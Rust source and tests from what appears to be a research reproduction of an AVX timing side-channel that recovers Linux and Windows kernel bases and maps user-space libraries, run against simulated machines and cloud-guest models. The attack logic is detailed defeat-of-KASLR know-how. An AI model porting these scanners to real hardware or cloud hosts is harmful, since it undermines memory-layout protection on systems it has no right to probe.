            assert_eq!(scan.base, Some(truth.kernel_base), "seed {seed}");
            assert_eq!(scan.slide_slots(), Some(truth.slide_slots));
        }
    }

    #[test]
    fn finds_base_with_profile_noise() {
        let mut hits = 0;
        for seed in 10..20 {
            let (scan, truth) = run_intel(seed, true);
            if scan.base == Some(truth.kernel_base) {
                hits += 1;
            }
        }
        assert!(hits >= 9, "noise should rarely break the attack: {hits}/10");
    }

    #[test]
    fn series_shows_fig4_bands() {
        let (scan, truth) = run_intel(42, false);
        assert_eq!(scan.samples.len(), 512);
        let slide = truth.slide_slots as usize;
        let kernel_slots = truth.kernel_slots as usize;
        let mapped_mean: f64 = scan.samples[slide..slide + kernel_slots]
            .iter()
            .map(|&s| s as f64)
            .sum::<f64>()
            / kernel_slots as f64;
        let unmapped: Vec<u64> = scan
            .samples
            .iter()
            .enumerate()
            .filter(|(i, _)| *i < slide || *i >= slide + kernel_slots)
            .map(|(_, &s)| s)
            .collect();
        let unmapped_mean: f64 =
            unmapped.iter().map(|&s| s as f64).sum::<f64>() / unmapped.len() as f64;
        assert!(
            (mapped_mean - 93.0).abs() < 2.0,
            "mapped ≈ 93: {mapped_mean}"
        );
        assert!(
            (unmapped_mean - 107.0).abs() < 2.0,
            "unmapped ≈ 107: {unmapped_mean}"
        );
    }

    #[test]
    fn runtime_accounting_separates_probing_from_total() {
        let (scan, _) = run_intel(7, false);
        assert!(scan.probing_cycles > 0);
        assert!(scan.total_cycles > scan.probing_cycles);
        // 512 slots × 2 probes × ~100 cycles ≈ 1e5 probing cycles.
        assert!(scan.probing_cycles < 500_000);
    }

    #[test]
    fn first_mapped_run_logic() {
        assert_eq!(first_mapped_run(&[false, true, true, false], 2), Some(1));
        assert_eq!(first_mapped_run(&[true, false, true, true], 2), Some(2));
        assert_eq!(first_mapped_run(&[false, false], 2), None);
        // Trailing single mapped slot.
        assert_eq!(first_mapped_run(&[false, false, true], 2), Some(2));
    }

    #[test]
    fn confirmed_scan_keeps_the_quiet_answer() {
        for seed in [61, 62] {
            let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
            let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
            m.set_noise(NoiseModel::none());
            let mut p = SimProber::new(m);
            let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
            let plain = KernelBaseFinder::new(th).scan(&mut p);
            let confirmed = KernelBaseFinder::new(th)
                .with_confirmation(ConfirmConfig::default())
                .scan(&mut p);
            assert_eq!(confirmed.base, plain.base, "seed {seed}");
            assert_eq!(confirmed.base, Some(truth.kernel_base), "seed {seed}");
            assert!(confirmed.probes > plain.probes, "seed {seed}: re-test cost");
        }
    }

    #[test]
    fn run_anchor_order_matches_the_legacy_rule() {
        // The decision layer's anchor stream starts exactly where the
        // legacy first-wins rule would have looked.
        for mapped in [
            vec![false, true, true, false],
            vec![true, false, true, true],
            vec![false, false, true],
            vec![false, false],
        ] {
            assert_eq!(
                run_anchors(&mapped, 2).first().copied(),
                first_mapped_run(&mapped, 2),
                "{mapped:?}"
            );
        }
    }

    #[test]
    fn store_probing_works_and_is_faster() {
        let sys = LinuxSystem::build(LinuxConfig::seeded(70));
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 70);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::new(m);
        // Store calibration against the (read-only) text page.
        let th = Threshold::calibrate_store(&mut p, truth.user.text, 8);
        let scan = KernelBaseFinder::new(th)
            .with_op(avx_uarch::OpKind::Store)
            .scan(&mut p);
        assert_eq!(scan.base, Some(truth.kernel_base));

        // Compare probing cycles against the load-based scan.
        let sys = LinuxSystem::build(LinuxConfig::seeded(70));
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 71);
        m.set_noise(NoiseModel::none());
        let mut p2 = SimProber::new(m);
        let th_load = Threshold::calibrate(&mut p2, truth.user.calibration, 8);
        let load_scan = KernelBaseFinder::new(th_load).scan(&mut p2);
        assert!(
            scan.probing_cycles < load_scan.probing_cycles,
            "P6: store probing {} < load probing {}",
            scan.probing_cycles,
            load_scan.probing_cycles
        );
    }

    #[test]
    fn amd_finder_recovers_base() {
        for seed in [1, 9, 33] {
            let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
            let (mut m, truth) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), seed);
            m.set_noise(NoiseModel::none());
            let mut p = SimProber::new(m);
            let scan = AmdKernelBaseFinder::for_default_kernel().scan(&mut p);
            assert_eq!(scan.outliers.len(), 5, "seed {seed}: five 4 KiB slots");
            assert_eq!(scan.base, Some(truth.kernel_base), "seed {seed}");
        }
    }

    #[test]
    fn amd_finder_with_noise() {
        let mut hits = 0;
        for seed in 50..58 {
            let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
            let (m, truth) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), seed);
            let mut p = SimProber::new(m);
            let scan = AmdKernelBaseFinder::for_default_kernel()
                .with_repeats(8)
                .scan(&mut p);
            if scan.base == Some(truth.kernel_base) {
                hits += 1;
            }
        }
        assert!(hits >= 7, "{hits}/8");
    }

    #[test]
    fn adaptive_scan_finds_base_with_fewer_probes() {
        use crate::adaptive::AdaptiveSampler;
        for seed in [21, 22, 23] {
            let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
            let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
            m.set_noise(NoiseModel::none());
            let mut p = SimProber::new(m);
            let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);

            let fixed = KernelBaseFinder::new(th)
                .with_strategy(ProbeStrategy::MinOf(8))
                .scan(&mut p);
            let adaptive = KernelBaseFinder::new(th)
                .with_adaptive(AdaptiveSampler::from_threshold(&th, 1.0))
                .scan(&mut p);
            assert_eq!(adaptive.base, Some(truth.kernel_base), "seed {seed}");
            assert_eq!(adaptive.mapped, fixed.mapped, "seed {seed}: same verdicts");
            assert!(
                adaptive.probes * 2 <= fixed.probes,
                "seed {seed}: adaptive {} vs fixed {}",
                adaptive.probes,
                fixed.probes
            );
        }
    }

    #[test]
    fn amd_early_stop_scan_matches_fixed_and_spends_less() {
        use crate::adaptive::AdaptiveMinFilter;
        for seed in [31, 32] {
            let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
            let (mut m, truth) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), seed);
            m.set_noise(NoiseModel::none());
            let mut p = SimProber::new(m);
            let fixed = AmdKernelBaseFinder::for_default_kernel()
                .with_repeats(8)
                .scan(&mut p);
            let adaptive = AmdKernelBaseFinder::for_default_kernel()
                .with_early_stop(AdaptiveMinFilter::default())
                .scan(&mut p);
            assert_eq!(adaptive.base, Some(truth.kernel_base), "seed {seed}");
            assert_eq!(adaptive.outliers, fixed.outliers, "seed {seed}");
            assert!(
                adaptive.probes * 2 <= fixed.probes,
                "seed {seed}: adaptive {} vs fixed {}",
                adaptive.probes,
                fixed.probes
            );
        }
    }

    #[test]
    #[should_panic(expected = "strictly ascending")]
    fn unsorted_pattern_rejected() {
        let _ = AmdKernelBaseFinder::new(vec![9, 8]);
    }

    #[test]
    fn interior_pattern_recovers_base() {
        // A pattern not anchored at slot 0: the finder subtracts the
        // first offset.
        let finder = AmdKernelBaseFinder::new(vec![8, 9, 10, 18, 19]);
        let outliers = vec![108usize, 109, 110, 118, 119];
        assert_eq!(finder.match_pattern(&outliers), Some(100));
        // Missing one split → no match.
        let broken = vec![108usize, 109, 110, 118];
        assert_eq!(finder.match_pattern(&broken), None);
    }
}
