//! Cloud KASLR breaks (§IV-H): one driver per provider preset.
//!
//! Composes the Linux/Windows attacks against the EC2/GCE/Azure guest
//! models and scores the result against ground truth, reproducing the
//! §IV-H narrative: EC2 via the KPTI trampoline (offset `0xe00000`),
//! GCE via the direct mapped/unmapped scan plus module identification,
//! Azure via the 18-bit Windows region scan.

use core::fmt;

use avx_mmu::VirtAddr;
use avx_os::cloud::{CloudProvider, CloudScenario, GuestOs};
use avx_os::linux::{LinuxSystem, KERNEL_SLOTS, MODULE_SLOTS};
use avx_os::windows::WindowsSystem;
use avx_uarch::{NoiseProfile, ObservablesVersion};

use crate::adaptive::Sampling;
use crate::calibrate::{CalibratorKind, Threshold};
use crate::decision::ConfirmConfig;
use crate::defense::{DefenseKind, DefenseRegion};
use crate::prober::{Prober, SimProber};
use crate::recal::RecalConfig;
use crate::schedule::ScheduleKind;

use super::kaslr::KernelBaseFinder;
use super::kpti::KptiAttack;
use super::modules::ModuleScanner;
use super::windows::WindowsKaslrAttack;

/// Outcome of attacking one cloud guest.
#[derive(Clone, Debug)]
pub struct CloudBreakReport {
    /// Which provider.
    pub provider: CloudProvider,
    /// Recovered kernel base.
    pub base: Option<VirtAddr>,
    /// `true` when the base matches ground truth.
    pub base_correct: bool,
    /// Wall-clock seconds spent recovering the base (total accounting).
    pub base_seconds: f64,
    /// Seconds spent inside the timed masked ops across the whole
    /// attack chain ("Probing" in the Table I sense).
    pub probing_seconds: f64,
    /// Detected kernel modules, when the guest exposes them.
    pub modules_detected: Option<usize>,
    /// Seconds spent on the module scan.
    pub modules_seconds: Option<f64>,
    /// Raw probes issued across the whole chain (calibration included).
    pub probes: u64,
    /// Candidate addresses the chain's sweeps covered.
    pub addresses: u64,
    /// Human-readable method description.
    pub method: &'static str,
}

impl fmt::Display for CloudBreakReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}: base {} ({}) in {:.3} ms via {}",
            self.provider,
            self.base
                .map_or("not found".to_string(), |b| format!("{b}")),
            if self.base_correct {
                "correct"
            } else {
                "WRONG"
            },
            self.base_seconds * 1e3,
            self.method
        )?;
        if let (Some(n), Some(s)) = (self.modules_detected, self.modules_seconds) {
            write!(f, "; {n} modules in {:.3} ms", s * 1e3)?;
        }
        Ok(())
    }
}

/// Runs the full attack chain against one provider preset on a quiet
/// host with the paper's fixed probe schedule.
#[must_use]
pub fn run_scenario(scenario: &CloudScenario, machine_seed: u64) -> CloudBreakReport {
    run_scenario_with(scenario, machine_seed, NoiseProfile::Quiet, Sampling::Fixed)
}

/// Runs the full attack chain against one provider preset under an
/// explicit noise environment and sampling policy — the cloud leg of
/// the campaign's attack × noise grid. Calibrates with the default
/// [`CalibratorKind::Legacy`] estimator.
#[must_use]
pub fn run_scenario_with(
    scenario: &CloudScenario,
    machine_seed: u64,
    noise: NoiseProfile,
    sampling: Sampling,
) -> CloudBreakReport {
    run_scenario_calibrated(
        scenario,
        machine_seed,
        noise,
        sampling,
        CalibratorKind::Legacy,
    )
}

/// [`run_scenario_with`] under an explicit threshold estimator — what
/// [`crate::attacks::campaign::CampaignConfig::calibrator`] threads
/// into the cloud scenario rows.
#[must_use]
pub fn run_scenario_calibrated(
    scenario: &CloudScenario,
    machine_seed: u64,
    noise: NoiseProfile,
    sampling: Sampling,
    calibrator: CalibratorKind,
) -> CloudBreakReport {
    run_scenario_configured(scenario, machine_seed, noise, sampling, calibrator, None)
}

/// [`run_scenario_calibrated`] plus the closed-loop recalibration
/// switch — the full set of knobs
/// [`crate::attacks::campaign::CampaignConfig`] threads into the cloud
/// rows. With `recal` set, every sweep of the chain (KPTI trampoline,
/// GCE base + modules, Azure region scan) runs under
/// [`crate::recal::Recalibrating`].
#[must_use]
pub fn run_scenario_configured(
    scenario: &CloudScenario,
    machine_seed: u64,
    noise: NoiseProfile,
    sampling: Sampling,
    calibrator: CalibratorKind,
    recal: Option<RecalConfig>,
) -> CloudBreakReport {
    run_scenario_observed(
        scenario,
        machine_seed,
        noise,
        sampling,
        calibrator,
        recal,
        ObservablesVersion::V1,
    )
}

/// [`run_scenario_configured`] under an explicit observables regime.
/// The v1 regime is bit-exact with [`run_scenario_configured`]; v2 runs
/// the same chain over the batched ziggurat noise kernel. Delegates to
/// [`run_scenario_decided`] with the confirmation layer off.
#[must_use]
pub fn run_scenario_observed(
    scenario: &CloudScenario,
    machine_seed: u64,
    noise: NoiseProfile,
    sampling: Sampling,
    calibrator: CalibratorKind,
    recal: Option<RecalConfig>,
    observables: ObservablesVersion,
) -> CloudBreakReport {
    run_scenario_decided(
        scenario,
        machine_seed,
        noise,
        sampling,
        calibrator,
        recal,
        observables,
        None,
    )
}

/// [`run_scenario_observed`] plus the confirmation decision layer — the
/// full set of knobs [`crate::attacks::campaign::CampaignConfig`]
/// threads into the cloud rows. With `confirm` set, every
/// needle-in-haystack scan of the chain (KPTI trampoline, GCE base +
/// modules, Azure region scan) re-tests its candidates through
/// [`crate::decision`] before committing to an answer.
#[must_use]
#[allow(clippy::too_many_arguments)]
pub fn run_scenario_decided(
    scenario: &CloudScenario,
    machine_seed: u64,
    noise: NoiseProfile,
    sampling: Sampling,
    calibrator: CalibratorKind,
    recal: Option<RecalConfig>,
    observables: ObservablesVersion,
    confirm: Option<ConfirmConfig>,
) -> CloudBreakReport {
    run_scenario_defended(
        scenario,
        machine_seed,
        noise,
        sampling,
        calibrator,
        recal,
        observables,
        confirm,
        DefenseKind::None,
    )
}

/// [`run_scenario_decided`] against a defended guest: the complete set
/// of campaign knobs. Each guest installs the defense over its own
/// kernel's randomization regions — the Linux guests defend kernel text
/// plus the module area, the Windows guest its 18-bit region — before
/// the chain's first probe. [`DefenseKind::None`] is architecturally
/// silent, so [`run_scenario_decided`] stays bit-exact.
#[must_use]
#[allow(clippy::too_many_arguments)]
pub fn run_scenario_defended(
    scenario: &CloudScenario,
    machine_seed: u64,
    noise: NoiseProfile,
    sampling: Sampling,
    calibrator: CalibratorKind,
    recal: Option<RecalConfig>,
    observables: ObservablesVersion,
    confirm: Option<ConfirmConfig>,
    defense: DefenseKind,
) -> CloudBreakReport {
    run_scenario_scheduled(
        scenario,
        machine_seed,
        noise,
        sampling,
        calibrator,
        recal,
        observables,
        confirm,
        defense,
        ScheduleKind::None,
    )
}

/// [`run_scenario_defended`] against an event-driven guest: the
/// complete set of campaign knobs. Each guest installs the victim
/// schedule after its defense and before the chain's first probe, so
/// the virtual wall clock covers calibration and every sweep.
/// [`ScheduleKind::None`] is architecturally silent, so
/// [`run_scenario_defended`] stays bit-exact.
#[must_use]
#[allow(clippy::too_many_arguments)]
pub fn run_scenario_scheduled(
    scenario: &CloudScenario,
    machine_seed: u64,
    noise: NoiseProfile,
    sampling: Sampling,
    calibrator: CalibratorKind,
    recal: Option<RecalConfig>,
    observables: ObservablesVersion,
    confirm: Option<ConfirmConfig>,
    defense: DefenseKind,
    schedule: ScheduleKind,
) -> CloudBreakReport {
    let sigma = noise.effective_sigma(&scenario.cpu.timing);
    match &scenario.guest {
        GuestOs::Linux(cfg) => {
            let sys = LinuxSystem::build(cfg.clone());
            let (mut machine, truth) = sys.into_machine(scenario.cpu.clone(), machine_seed);
            machine.set_noise_profile(noise);
            machine.set_observables(observables);
            defense.install(
                &mut machine,
                &[
                    DefenseRegion::linux_kernel_text(),
                    DefenseRegion::linux_modules(),
                ],
                machine_seed,
            );
            schedule.install(&mut machine, noise, machine_seed);
            let mut p = SimProber::new(machine);
            let fit = Threshold::calibrate_with(&mut p, truth.user.calibration, 16, calibrator);
            let th = fit.threshold;
            let sampler = sampling.sampler_for_calibration(calibrator, &fit, sigma);

            if cfg.kpti {
                let mut attack = KptiAttack::new(th, cfg.trampoline_offset);
                if let Some(sampler) = sampler {
                    attack = attack.with_adaptive(sampler);
                }
                if let Some(strategy) = sampling.strategy_override() {
                    attack = attack.with_strategy(strategy);
                }
                if let Some(recal) = recal {
                    attack = attack.with_recalibration(recal);
                }
                if let Some(confirm) = confirm {
                    attack = attack.with_confirmation(confirm);
                }
                let scan = attack.scan(&mut p);
                let seconds = scan.total_cycles as f64 / (p.clock_ghz() * 1e9);
                CloudBreakReport {
                    provider: scenario.provider,
                    base: scan.base,
                    base_correct: scan.base == Some(truth.kernel_base),
                    base_seconds: seconds,
                    probing_seconds: scan.probing_cycles as f64 / (p.clock_ghz() * 1e9),
                    // KPTI unmaps the module area from the user page
                    // table; our model therefore reports no modules here
                    // (see EXPERIMENTS.md for the deviation note).
                    modules_detected: None,
                    modules_seconds: None,
                    probes: p.probes_issued(),
                    addresses: KERNEL_SLOTS,
                    method: "KPTI trampoline",
                }
            } else {
                let mut base_finder = KernelBaseFinder::new(th);
                let mut module_scanner = ModuleScanner::new(th);
                if let Some(sampler) = sampler {
                    base_finder = base_finder.with_adaptive(sampler);
                    module_scanner = module_scanner.with_adaptive(sampler);
                }
                if let Some(strategy) = sampling.strategy_override() {
                    base_finder = base_finder.with_strategy(strategy);
                    module_scanner = module_scanner.with_strategy(strategy);
                }
                if let Some(recal) = recal {
                    base_finder = base_finder.with_recalibration(recal);
                    module_scanner = module_scanner.with_recalibration(recal);
                }
                if let Some(confirm) = confirm {
                    base_finder = base_finder.with_confirmation(confirm);
                    module_scanner = module_scanner.with_confirmation(confirm);
                }
                let scan = base_finder.scan(&mut p);
                let base_seconds = scan.total_cycles as f64 / (p.clock_ghz() * 1e9);
                let module_scan = module_scanner.scan(&mut p);
                let modules_seconds = module_scan.total_cycles as f64 / (p.clock_ghz() * 1e9);
                CloudBreakReport {
                    provider: scenario.provider,
                    base: scan.base,
                    base_correct: scan.base == Some(truth.kernel_base),
                    base_seconds,
                    probing_seconds: (scan.probing_cycles + module_scan.probing_cycles) as f64
                        / (p.clock_ghz() * 1e9),
                    modules_detected: Some(module_scan.detected.len()),
                    modules_seconds: Some(modules_seconds),
                    probes: p.probes_issued(),
                    addresses: KERNEL_SLOTS + MODULE_SLOTS,
                    method: "mapped/unmapped scan",
                }
            }
        }
        GuestOs::Windows(cfg) => {
            let sys = WindowsSystem::build(cfg.clone());
            let (mut machine, truth) = sys.into_machine(scenario.cpu.clone(), machine_seed);
            machine.set_noise_profile(noise);
            machine.set_observables(observables);
            defense.install(
                &mut machine,
                &[DefenseRegion::windows_kernel()],
                machine_seed,
            );
            schedule.install(&mut machine, noise, machine_seed);
            let mut p = SimProber::new(machine);
            let fit = Threshold::calibrate_with(&mut p, truth.user_scratch, 16, calibrator);
            let mut attack = WindowsKaslrAttack::new(fit.threshold);
            if let Some(sampler) = sampling.sampler_for_calibration(calibrator, &fit, sigma) {
                attack = attack.with_adaptive(sampler);
            }
            if let Some(strategy) = sampling.strategy_override() {
                attack = attack.with_strategy(strategy);
            }
            if let Some(recal) = recal {
                attack = attack.with_recalibration(recal);
            }
            if let Some(confirm) = confirm {
                attack = attack.with_confirmation(confirm);
            }
            let scan = attack.find_kernel_region(&mut p);
            let seconds = scan.total_cycles as f64 / (p.clock_ghz() * 1e9);
            CloudBreakReport {
                provider: scenario.provider,
                base: scan.base,
                base_correct: scan.base == Some(truth.kernel_base),
                base_seconds: seconds,
                probing_seconds: scan.probing_cycles as f64 / (p.clock_ghz() * 1e9),
                modules_detected: None,
                modules_seconds: None,
                probes: p.probes_issued(),
                addresses: scan.candidates,
                method: "18-bit Windows region scan",
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ec2_breaks_via_trampoline() {
        let report = run_scenario(&CloudScenario::amazon_ec2(11), 1);
        assert!(report.base_correct, "{report}");
        assert_eq!(report.method, "KPTI trampoline");
        assert!(report.modules_detected.is_none(), "KPTI hides modules");
    }

    #[test]
    fn gce_breaks_directly_and_sees_modules() {
        let report = run_scenario(&CloudScenario::google_gce(12), 2);
        assert!(report.base_correct, "{report}");
        assert_eq!(report.method, "mapped/unmapped scan");
        assert_eq!(report.modules_detected, Some(125));
        assert!(report.modules_seconds.unwrap() > 0.0);
    }

    #[test]
    fn azure_derandomizes_18_bits() {
        let report = run_scenario(&CloudScenario::microsoft_azure(13), 3);
        assert!(report.base_correct, "{report}");
        assert_eq!(report.method, "18-bit Windows region scan");
    }

    #[test]
    fn runtimes_ordered_like_the_paper() {
        // EC2/GCE kernel-base runtimes are sub-millisecond-ish; Azure's
        // 18-bit scan is orders of magnitude longer (paper: 2.06 s).
        let ec2 = run_scenario(&CloudScenario::amazon_ec2(21), 4);
        let gce = run_scenario(&CloudScenario::google_gce(22), 5);
        let azure = run_scenario(&CloudScenario::microsoft_azure(23), 6);
        assert!(ec2.base_seconds < 0.1, "{}", ec2.base_seconds);
        assert!(gce.base_seconds < 0.1, "{}", gce.base_seconds);
        assert!(
            azure.base_seconds > gce.base_seconds,
            "18-bit scan dominates"
        );
    }

    #[test]
    fn adaptive_cloud_chain_stays_correct_and_spends_fewer_probes() {
        // The comparator is the noise-robust fixed budget: what the
        // fixed path must spend per address to survive noisy profiles.
        let fixed = run_scenario_with(
            &CloudScenario::google_gce(41),
            8,
            NoiseProfile::Quiet,
            Sampling::fixed_budget(),
        );
        let adaptive = run_scenario_with(
            &CloudScenario::google_gce(41),
            8,
            NoiseProfile::Quiet,
            Sampling::adaptive(),
        );
        assert!(fixed.base_correct, "{fixed}");
        assert!(adaptive.base_correct, "{adaptive}");
        assert_eq!(adaptive.modules_detected, fixed.modules_detected);
        assert_eq!(adaptive.addresses, fixed.addresses);
        assert!(
            adaptive.probes * 2 <= fixed.probes,
            "adaptive {} vs fixed-budget {}",
            adaptive.probes,
            fixed.probes
        );
    }

    #[test]
    fn report_display_is_informative() {
        let report = run_scenario(&CloudScenario::google_gce(31), 7);
        let text = report.to_string();
        assert!(text.contains("Google GCE"));
        assert!(text.contains("correct"));
        assert!(text.contains("modules"));
    }
}
