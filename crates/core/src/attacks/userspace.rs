//! Fine-grained user-space ASLR break (§IV-F, Fig. 7).
//!
//! Linearly probes 4 KiB-aligned candidates, classifying each page with
//! the permission primitive (load pass + store pass), merges equal
//! classes into regions, and fingerprints libraries by their
//! section-size signatures. Works identically inside an SGX2 enclave —
//! the enclave only removes the `/proc` oracle, which the attack never
//! uses.

use core::fmt;

use avx_mmu::VirtAddr;
use avx_os::process::{ImageSignature, PermClass};

use crate::decision::{ConfirmConfig, SlotSprt};
use crate::primitives::{PermissionAttack, ProbedPerm};
use crate::prober::Prober;
use crate::sweep::AddrRange;

/// A classified user-space region (merged consecutive pages).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct UserRegion {
    /// First page of the region.
    pub start: VirtAddr,
    /// One past the last byte.
    pub end: VirtAddr,
    /// Detected permission class.
    pub perm: ProbedPerm,
}

impl UserRegion {
    /// Region length in bytes.
    #[must_use]
    pub fn len(&self) -> u64 {
        self.end.as_u64() - self.start.as_u64()
    }

    /// `true` for zero-length regions (never produced by the scanner).
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl fmt::Display for UserRegion {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:012x}-{:012x} {}",
            self.start.as_u64(),
            self.end.as_u64(),
            self.perm
        )
    }
}

/// The merged region map of a scanned window (the right side of Fig. 7).
#[derive(Clone, Debug, Default)]
pub struct RegionMap {
    /// Regions in address order.
    pub regions: Vec<UserRegion>,
}

impl RegionMap {
    /// Only the mapped (non-`NoneOrUnmapped`) regions.
    #[must_use]
    pub fn mapped_regions(&self) -> Vec<&UserRegion> {
        self.regions
            .iter()
            .filter(|r| r.perm != ProbedPerm::NoneOrUnmapped)
            .collect()
    }

    /// The region covering `addr`, if any.
    #[must_use]
    pub fn region_at(&self, addr: VirtAddr) -> Option<&UserRegion> {
        self.regions
            .iter()
            .find(|r| addr >= r.start && addr < r.end)
    }
}

/// The user-space scanner.
#[derive(Clone, Copy, Debug)]
pub struct UserSpaceScanner {
    /// Page classifier.
    pub permission: PermissionAttack,
    /// Per-page record-keeping overhead (cycles).
    pub per_page_overhead: u64,
    confirm: Option<ConfirmConfig>,
}

impl UserSpaceScanner {
    /// Builds a scanner around a calibrated permission attack.
    ///
    /// The per-page strategy is upgraded to min-of-2: the §IV-F scan
    /// covers hundreds of thousands of pages, so single interrupt
    /// spikes would otherwise split large regions and break the
    /// section-size signatures (the paper likewise probes the space
    /// twice "to reduce noise").
    #[must_use]
    pub fn new(mut permission: PermissionAttack) -> Self {
        permission.strategy = crate::prober::ProbeStrategy::MinOf(2);
        Self {
            permission,
            per_page_overhead: 60,
            confirm: None,
        }
    }

    /// Confirms first-hit candidates through the decision layer
    /// ([`crate::decision`]) before accepting them: a single noisy
    /// permission misread no longer anchors the whole library map
    /// wrong.
    #[must_use]
    pub fn with_confirmation(mut self, config: ConfirmConfig) -> Self {
        self.confirm = Some(config);
        self
    }

    /// Switches the scanner's load pass to adaptive sequential
    /// sampling: each page drops out of the sweep as soon as its
    /// readable/unmapped classification settles (the store pass only
    /// runs on the readable minority and keeps the fixed strategy).
    #[must_use]
    pub fn with_adaptive(mut self, sigma: f64, config: crate::adaptive::AdaptiveConfig) -> Self {
        self.permission = self.permission.with_adaptive(sigma, config);
        self
    }

    /// Pages classified per batch while sweeping (chunk size of the
    /// full-region scan loop).
    pub const SCAN_CHUNK_PAGES: u64 = 512;

    /// Pages classified per batch by the early-exit search: one probe
    /// tile, so a hit near the window start costs (and bills) at most
    /// one tile of extra probes over the old per-page loop.
    pub const FIND_CHUNK_PAGES: u64 = 16;

    /// Scans `pages` pages from `start` and merges classes into regions.
    ///
    /// The sweep runs in [`UserSpaceScanner::SCAN_CHUNK_PAGES`]-page
    /// chunks through [`PermissionAttack::classify_batch`], so the probe
    /// backend times whole batches of candidates.
    pub fn scan<P: Prober + ?Sized>(&self, p: &mut P, start: VirtAddr, pages: u64) -> RegionMap {
        let mut map = RegionMap::default();
        let mut current: Option<UserRegion> = None;
        let mut addrs = Vec::with_capacity(Self::SCAN_CHUNK_PAGES as usize);
        for chunk in AddrRange::pages(start, pages).chunks(Self::SCAN_CHUNK_PAGES) {
            chunk.fill(&mut addrs);
            let classes = self.permission.classify_batch(p, &addrs);
            p.spend(self.per_page_overhead * chunk.count);
            for (&page, class) in addrs.iter().zip(classes) {
                match current.as_mut() {
                    Some(region) if region.perm == class => {
                        region.end = page.wrapping_add(4096);
                    }
                    _ => {
                        if let Some(done) = current.take() {
                            map.regions.push(done);
                        }
                        current = Some(UserRegion {
                            start: page,
                            end: page.wrapping_add(4096),
                            perm: class,
                        });
                    }
                }
            }
        }
        if let Some(done) = current {
            map.regions.push(done);
        }
        map
    }

    /// Early-exit search for the first mapped page in an ASLR window —
    /// the §IV-F "find the code section" step. Returns the first page
    /// whose load probe classifies as readable. Probes one
    /// [`UserSpaceScanner::FIND_CHUNK_PAGES`] tile at a time and stops
    /// at the first tile containing a mapped page, so early hits keep
    /// the probe count (and the cycle accounting) close to the
    /// per-page loop it replaced.
    pub fn find_first_mapped<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        window_start: VirtAddr,
        window_pages: u64,
    ) -> Option<VirtAddr> {
        let mut addrs = Vec::with_capacity(Self::FIND_CHUNK_PAGES as usize);
        for chunk in AddrRange::pages(window_start, window_pages).chunks(Self::FIND_CHUNK_PAGES) {
            chunk.fill(&mut addrs);
            let classes = self.permission.classify_batch(p, &addrs);
            p.spend(self.per_page_overhead * chunk.count);
            match self.confirm {
                None => {
                    if let Some(hit) = addrs
                        .iter()
                        .zip(classes)
                        .find(|(_, class)| *class != ProbedPerm::NoneOrUnmapped)
                    {
                        return Some(*hit.0);
                    }
                }
                Some(config) => {
                    // Decision-layer path: re-probe each candidate hit
                    // until the slot-level test decides; a rejected hit
                    // was a single noisy misread — keep searching.
                    for (&page, class) in addrs.iter().zip(&classes) {
                        if *class == ProbedPerm::NoneOrUnmapped {
                            continue;
                        }
                        let mut sprt = SlotSprt::new(config);
                        let confirmed = loop {
                            let revisit = self.permission.classify_batch(p, &[page]);
                            p.spend(self.per_page_overhead);
                            if let Some(verdict) =
                                sprt.push(revisit[0] != ProbedPerm::NoneOrUnmapped)
                            {
                                break verdict;
                            }
                        };
                        if confirmed {
                            return Some(page);
                        }
                    }
                }
            }
        }
        None
    }
}

/// A fingerprint match.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct LibraryMatch {
    /// Matched image name.
    pub name: &'static str,
    /// Detected load base.
    pub base: VirtAddr,
}

/// Signature-based library identification (§IV-F: "we used sections'
/// sizes as signatures for detecting libraries").
#[derive(Clone, Debug)]
pub struct LibraryMatcher {
    signatures: Vec<ImageSignature>,
}

impl LibraryMatcher {
    /// Builds a matcher over known image signatures.
    #[must_use]
    pub fn new(signatures: Vec<ImageSignature>) -> Self {
        Self { signatures }
    }

    /// Finds every signature occurrence in a region map.
    ///
    /// A signature matches a window of consecutive detected regions when
    /// each section's class and size line up; the trailing `rw-` section
    /// may be larger than the signature (hidden allocator pages merge
    /// into it — the Fig. 7 "additional detected pages").
    #[must_use]
    pub fn find_all(&self, map: &RegionMap) -> Vec<LibraryMatch> {
        let mut out = Vec::new();
        for sig in &self.signatures {
            let pattern: Vec<(ProbedPerm, u64)> = sig
                .sections
                .iter()
                .map(|s| (detected_class(s.perm), s.size))
                .collect();
            'windows: for w in 0..map.regions.len().saturating_sub(pattern.len() - 1) {
                for (k, &(class, size)) in pattern.iter().enumerate() {
                    let region = &map.regions[w + k];
                    if region.perm != class {
                        continue 'windows;
                    }
                    let last = k == pattern.len() - 1;
                    // Trailing rw-/none regions may exceed the
                    // signature (hidden allocator pages, inter-library
                    // gaps merge into them).
                    let size_ok = if last
                        && matches!(class, ProbedPerm::ReadWrite | ProbedPerm::NoneOrUnmapped)
                    {
                        region.len() >= size
                    } else {
                        region.len() == size
                    };
                    if !size_ok {
                        continue 'windows;
                    }
                }
                out.push(LibraryMatch {
                    name: sig.name,
                    base: map.regions[w].start,
                });
            }
        }
        out.sort_by_key(|m| m.base);
        out
    }
}

/// Maps a ground-truth permission class onto what the channel detects.
fn detected_class(perm: PermClass) -> ProbedPerm {
    match perm {
